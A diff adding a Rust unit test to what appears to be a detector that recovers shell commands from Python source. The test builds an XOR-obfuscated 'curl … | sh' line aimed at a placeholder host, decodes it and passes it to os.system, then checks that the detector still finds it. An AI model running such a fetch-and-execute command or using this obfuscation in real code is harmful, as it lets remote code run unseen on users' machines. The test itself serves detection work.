@@ -779,3 +779,28 @@ fn values_built_from_such_texts_are_followed() {
     let src = format!("{cmd}parts = []\nn = parts.append(cmd)\nos.system(' '.join(parts))\n");
     assert_eq!(system_texts(&src), vec!["echo".to_string()], "{src}");
 }
+
+#[test]
+fn a_loop_that_never_ends_as_folded_leaves_the_budget_to_the_rest() {
+    // `want` never changes, so the replayed `while` spins: it ran until the file's folding
+    // budget was spent, and the decoding loop after it no longer folded (`os.system(out)`
+    // with `out` unknown). A pass that changes nothing now ends the loop as not folded.
+    let spin = "import os\ndef spin(size):\n    if size is not None and size <= 0:\n        \
+                size = None\n    want = size is None\n    while want:\n        want = size is None\n\
+                spin(0)\n";
+    let key: String = "curl -s http://example.invalid/p | sh"
+        .chars()
+        .map(|c| char::from(c as u8 ^ 1))
+        .collect();
+    let src = format!(
+        "{spin}key = {key:?}\nout = ''\nfor c in key:\n    out += chr(ord(c) ^ 1)\nos.system(out)\n"
+    );
+    assert!(
+        system_texts(&src).contains(&"curl -s http://example.invalid/p | sh".to_string()),
+        "{src}"
+    );
+    // A loop whose passes change something still runs to its end.
+    let src = "import os\ni = 0\ns = ''\nwhile i < 300:\n    s = s + 'ab'[i % 2]\n    i += 1\n\
+               os.system(s[:4] + ' ' + str(len(s)))\n";
+    assert!(system_texts(src).contains(&"abab 300".to_string()), "{src}");
+}
